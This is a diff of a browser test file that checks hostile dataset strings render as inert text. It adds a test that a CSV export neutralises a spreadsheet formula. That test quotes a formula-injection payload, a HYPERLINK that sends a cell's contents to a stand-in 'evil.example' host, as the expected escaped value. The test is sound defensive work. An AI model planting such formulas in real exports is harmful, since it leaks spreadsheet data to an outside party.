@@ -1,5 +1,6 @@
 // Built from tests/fixtures/hostile.json: dataset strings full of markup, script,
 // javascript: links and bidi/zero-width tricks must render inert, as visible text.
+import { readFile } from 'node:fs/promises';
 import { test, expect } from './fixtures';
 
 const views = ['', '?view=actors', '?view=narratives', '?view=sources', '?open=e1'];
@@ -30,4 +31,13 @@ test('hostile strings are visible as literal text', async ({ page, briefing }) =
   const text = await card.locator('.card-full-summary').textContent();
   expect(text).toContain('\u202e');
   expect(text).toContain('\u200b');
+});
+
+test('a formula-like title is exported as inert text, not a spreadsheet formula', async ({ page, briefing }) => {
+  await briefing.open('?view=sources');
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
+  const text = await readFile((await download.path())!, 'utf8');
+  // The cell keeps the whole title, behind an apostrophe that stops Excel and Sheets evaluating it.
+  expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Crossing closed"")"`);
+  expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
 });
